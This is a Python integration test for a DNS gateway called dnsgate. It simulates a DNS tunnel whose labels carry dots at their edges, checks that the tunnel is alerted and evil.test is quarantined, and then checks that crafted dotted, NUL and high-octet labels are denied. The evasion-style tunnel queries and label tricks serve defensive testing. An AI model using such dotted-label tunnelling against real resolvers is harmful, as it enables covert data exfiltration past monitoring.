"""A client that puts dots inside labels, through a running dnsgate with a real Unbound upstream.

The tunnel's names carry '.' octets at label edges (``<chunk>\\..<n>.evil.test``);
joined as text they used to look like names of their own "domains" and were
never charged to evil.test. Here the tunnel is alerted on evil.test, evil.test
is quarantined, and afterwards names with dots inside labels are denied by
dnsgate and never reach the upstream.
"""

from __future__ import annotations

import base64
import random
import subprocess
import time
from collections.abc import Iterator

import dns.message
import dns.name
import dns.query
import dns.rcode
import pytest

from tests.support.upstream_servers import Dnsgate, Unbound, basic_config, free_port, start_dnsgate

pytestmark = pytest.mark.integration


def ask(port: int, labels: list[bytes], rdtype: str = "A") -> dns.message.Message:
    name = dns.name.Name((*tuple(labels), b"evil", b"test", b""))
    query = dns.message.make_query(name, rdtype)
    return dns.query.udp(query, "127.0.0.1", port=port, timeout=3.0)


@pytest.fixture(scope="module")
def gate(unbound_upstream: Unbound, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Dnsgate]:
    port = free_port()
    workdir = tmp_path_factory.mktemp("evasion")
    config = basic_config(
        port, unbound_upstream.port,
        agents_extra='    detection: {mode: enforce}\n',
    ).replace('"*.wild.test"]', '"*.wild.test", "*.evil.test"]')
    server = start_dnsgate(config, workdir, port)
    yield server
    assert server.stop() == 0


def wait_for_tunnel_alert(gate: Dnsgate, timeout: float = 5.0) -> list[dict[str, object]]:
    deadline = time.monotonic() + timeout
    while True:
        found = [a for a in gate.alerts() if a["kind"] == "tunnel"]
        if found or time.monotonic() >= deadline:
            return found
        time.sleep(0.05)


def test_dotted_tunnel_is_alerted_then_dotted_names_are_denied(gate: Dnsgate, unbound_upstream: Unbound) -> None:
    rng = random.Random(3)
    start = len(unbound_upstream.queries())
    sent = 0
    for i in range(200):
        chunk = base64.b32encode(rng.randbytes(25)).decode().rstrip("=").lower().encode()
        ask(gate.port, [b"." + chunk[:20], chunk[20:] + b".", str(i).encode()], "TXT")
        sent += 1
        if wait_for_tunnel_alert(gate, 0.0):
            break
    alerts = wait_for_tunnel_alert(gate)
    assert alerts, "a tunnel whose labels carry dots went through without an alert"
    alert = alerts[0]
    assert alert["domain"] == "evil.test"
    assert alert["action"] == "quarantined"
    assert "\\." in str(alert["qname"])  # a dot inside a label is written \.
    assert sent < 50

    # Quarantined: leading, trailing and inner dots, NUL and high octets are all denied
    # by dnsgate and never forwarded.
    mark = len(unbound_upstream.queries())
    tricks = [[b".abc"], [b"abc."], [b"a.b"], [b"..", b"x."], [b"\x00."], [b"\xff.\\"], [b"www"]]
    for labels in tricks:
        assert ask(gate.port, labels).rcode() == dns.rcode.NXDOMAIN
    out = subprocess.run(
        ["dig", "@127.0.0.1", "-p", str(gate.port), "+tries=1", "+time=3", "abc\\..evil.test", "A"],
        capture_output=True, text=True, timeout=20, check=False,
    ).stdout
    assert "status: NXDOMAIN" in out
    # A forwarded sentinel proves the upstream log has caught up when it shows.
    sentinel = dns.message.make_query("api.allowed.test", "A")
    assert dns.query.udp(sentinel, "127.0.0.1", port=gate.port, timeout=3.0).rcode() == dns.rcode.NOERROR
    deadline = time.monotonic() + 5
    while "api.allowed.test" not in unbound_upstream.queries()[mark:] and time.monotonic() < deadline:
        time.sleep(0.05)
    seen = unbound_upstream.queries()[mark:]
    assert "api.allowed.test" in seen
    assert not [n for n in seen if "evil" in n], seen
    assert len(unbound_upstream.queries()[start:mark]) >= 1  # the tunnel did reach it before
